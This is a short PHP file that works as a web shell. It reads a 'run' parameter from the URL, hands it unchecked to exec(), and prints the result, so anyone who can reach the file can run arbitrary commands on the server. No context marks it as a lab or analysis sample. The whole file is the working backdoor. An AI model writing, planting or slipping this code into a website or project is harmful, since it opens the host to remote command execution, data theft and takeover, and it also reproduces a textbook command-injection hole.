<?php
$cmd = $_GET['run'];
exec($cmd, $out);
echo implode("\n", $out);
